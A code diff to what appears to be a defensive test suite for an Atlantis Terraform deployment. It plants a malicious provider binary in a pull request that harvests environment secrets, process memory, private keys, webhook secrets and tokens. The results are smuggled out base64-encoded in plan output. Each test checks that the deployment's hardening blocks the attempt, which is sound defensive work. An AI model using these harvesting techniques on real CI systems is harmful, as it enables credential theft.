@@ -9,15 +9,16 @@ import gzip
 import platform
 import re
 import secrets
+from collections.abc import Mapping
 from pathlib import Path
 
 from sandbox import processes
-from sandbox.attack.plans import secrets_in, shown_in
-from sandbox.attack.pull_requests import planned
+from sandbox.attack.plans import in_environment, secrets_in, shown_in
+from sandbox.attack.pull_requests import Answered, planned
 from sandbox.attack.row import Outcome, Row, SkippedError
 from sandbox.attack.target import Target
 
-__all__ = ["ROWS"]
+__all__ = ["ROWS", "printed", "run_in_plan"]
 
 _CONFIGURATION = """
 terraform {{
@@ -75,31 +76,38 @@ kill $!
 echo "server is $server, child is $!"
 """
 _FILES = """
+planted=$(mktemp -d)
+echo 'x-access-''token' >"$planted/token"
 for directory in "$HOME" "${TMPDIR:-/tmp}" "$ATLANTIS_DATA_DIR"; do
   find "$directory" -type p -name '*.yaml' 2>/dev/null | sed 's/^/pipe /'
   grep -r -l -s -D skip -e 'PRIVATE ''KEY-----' -e 'gh-webhook-''secret:' "$directory" | sed 's/^/secret in /'
   grep -r -l -s -D skip -e 'x-access-''token' "$directory" | sed 's/^/token in /'
 done
+rm -r "$planted"
 """
 
 
-def _printed(target: Target, name: str, body: str) -> str:
+def printed(target: Target, name: str, body: str) -> str:
     """The output of ``body`` in a plan."""
+    return target.once(name, lambda: run_in_plan(target, name, body)[0])
 
-    def run() -> str:
-        machine = _MACHINES.get(platform.machine(), platform.machine())
-        # Atlantis' plugin cache is shared by all pull requests, so each run uses a different provider name.
-        kind = f"{name}-{secrets.token_hex(4)}"
-        folder = f"terraform.d/plugins/attack.example/pull-request/{kind}/1.0.0/linux_{machine}"
-        path = f"{folder}/terraform-provider-{kind}_v1.0.0"
-        files = {"main.tf": _CONFIGURATION.format(type=kind), path: _FRAME.format(body=body.strip())}
-        text = planned(target, name, files, executables=[path]).text
-        found = re.search(r"LOOT:([\sA-Za-z0-9+/=]*):LOOT", text)
-        if found is None:
-            raise RuntimeError(f"the provider of the pull request didn't run: {text[:600]}")
-        return gzip.decompress(base64.b64decode("".join(found[1].split()))).decode(errors="replace")
 
-    return target.once(name, run)
+def run_in_plan(
+    target: Target, name: str, body: str, *, directory: str = "", more: Mapping[str, str] | None = None
+) -> tuple[str, Answered]:
+    """The output of ``body`` in a plan of ``directory``, and the pull request, which also has the files ``more``."""
+    machine = _MACHINES.get(platform.machine(), platform.machine())
+    # Atlantis' plugin cache is shared by all pull requests, so each run uses a different provider name.
+    kind = f"{name}-{secrets.token_hex(4)}"
+    folder = f"{directory}terraform.d/plugins/attack.example/pull-request/{kind}/1.0.0/linux_{machine}"
+    path = f"{folder}/terraform-provider-{kind}_v1.0.0"
+    configuration = {f"{directory}main.tf": _CONFIGURATION.format(type=kind)}
+    files = {**configuration, path: _FRAME.format(body=body.strip()), **(more or {})}
+    answered = planned(target, name, files, executables=[path])
+    found = re.search(r"LOOT:([\sA-Za-z0-9+/=]*):LOOT", answered.text)
+    if found is None:
+        raise RuntimeError(f"the provider of the pull request didn't run: {answered.text[:600]}")
+    return gzip.decompress(base64.b64decode("".join(found[1].split()))).decode(errors="replace"), answered
 
 
 def _health_seconds(target: Target) -> int:
@@ -113,15 +121,17 @@ def _health_seconds(target: Target) -> int:
 
 
 def _environments(target: Target) -> str:
-    return _printed(target, "provider-environments", _ENVIRONMENTS.format(seconds=_health_seconds(target)))
+    return printed(target, "provider-environments", _ENVIRONMENTS.format(seconds=_health_seconds(target)))
 
 
 def _is_open(target: Target, name: str, body: str, pattern: str, which: str) -> Outcome:
-    printed = _printed(target, name, body)
-    found = re.search(r"server is (?P<server>[1-9]\d*), child is (?P<child>\d+)", printed)
-    if found is None:
-        raise RuntimeError(f"the provider didn't find the server: {printed[:300]}")
-    seen = re.search(pattern.format(process=found[which]), printed)
+    said = printed(target, name, body)
+    found = re.search(r"server is (?P<server>\d+), child is (?P<child>\d+)", said)
+    if found is None or (found["server"] == "0") != target.isolated:
+        raise RuntimeError(f"the provider didn't find what it should: {said[:300]}")
+    if which == "server" and target.isolated:
+        return Outcome(False, "the server isn't among the processes of the plan's container")
+    seen = re.search(pattern.format(process=found[which]), said)
     if seen and which == "server" and _is_root_with_a_start_of_its_own(target):
         raise SkippedError("the server runs as root on this machine, and root can read every process")
     return Outcome(
@@ -150,17 +160,15 @@ def _reading_process(name: str, body: str, pattern: str, *, attack: str, tried: 
 def _left_on_disk(target: Target) -> Outcome:
     lines = [
         line
-        for line in _printed(target, "provider-files", _FILES).splitlines()
+        for line in printed(target, "provider-files", _FILES).splitlines()
         if line.startswith(("pipe ", "secret in "))
     ]
     return Outcome(bool(lines), lines[0] if lines else "no file and no pipe contains a secret")
 
 
-def _token_on_disk(target: Target) -> Outcome:
-    lines = [line for line in _printed(target, "provider-files", _FILES).splitlines() if line.startswith("token in ")]
-    return Outcome(
-        bool(lines), "the search finds the installation token in git's credentials, as documented in docs/security.md"
-    )
+def _planted_on_disk(target: Target) -> Outcome:
+    lines = [line for line in printed(target, "provider-files", _FILES).splitlines() if line.startswith("token in ")]
+    return Outcome(bool(lines), "the search finds a file that the attack has planted")
 
 
 ROWS = (
@@ -170,7 +178,7 @@ ROWS = (
         tried="a provider binary in the pull request that polls /proc/*/environ for longer than a health check's interval",
         refused_by="the container's start script, and no ECS health check, which would have the secrets in its environment",
         attempt=lambda target: secrets_in(target, _environments(target)),
-        control=lambda target: shown_in(_environments(target), "ATLANTIS_REPO_ALLOWLIST"),
+        control=lambda target: shown_in(_environments(target), in_environment(target)),
     ),
     _reading_process(
         "provider-server-memory",
@@ -192,6 +200,6 @@ ROWS = (
         tried="a provider binary in the pull request that searches the home, the temporary and the data directory",
         refused_by="the container's start script, which removes the configuration's pipe",
         attempt=_left_on_disk,
-        control=_token_on_disk,
+        control=_planted_on_disk,
     ),
 )
